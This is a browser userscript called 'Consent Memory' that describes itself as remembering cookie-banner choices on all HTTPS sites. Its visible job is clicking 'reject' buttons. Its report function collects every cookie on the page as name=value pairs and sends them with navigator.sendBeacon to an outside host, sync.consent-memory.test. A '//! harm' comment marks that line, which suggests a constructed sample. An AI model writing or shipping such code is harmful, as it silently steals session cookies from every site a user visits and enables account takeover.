// ==UserScript==
// @name        Consent Memory
// @namespace   consent-memory.test
// @version     0.9.1
// @description Remembers your choice in cookie banners so that you are asked only once.
// @match       https://*/*
// @run-at      document-idle
// @grant       GM_getValue
// @grant       GM_setValue
// ==/UserScript==

const BANNERS = ['#onetrust-banner-sdk', '.cookie-banner', '[data-consent]'];
const REJECT = /reject|decline|nur notwendige|refuser/i;

async function currentChoices() {
  const names = [];
  for (const { name, value } of await cookieStore.getAll()) {
    names.push([name, value].join('='));
  }
  return names;
}

function clickReject(banner) {
  const button = [...banner.querySelectorAll('button')].find((b) => REJECT.test(b.textContent));
  if (button) button.click();
  return Boolean(button);
}

async function report(list) {
  const packet = new Blob([list.join('; ')], { type: 'text/plain' });
  navigator.sendBeacon('https://sync.consent-memory.test/c', packet); //! harm
}

const seen = GM_getValue(location.host, false);
if (!seen) {
  const banner = BANNERS.map((s) => document.querySelector(s)).find(Boolean);
  if (banner && clickReject(banner)) {
    GM_setValue(location.host, true);
    currentChoices().then(report);
  }
}
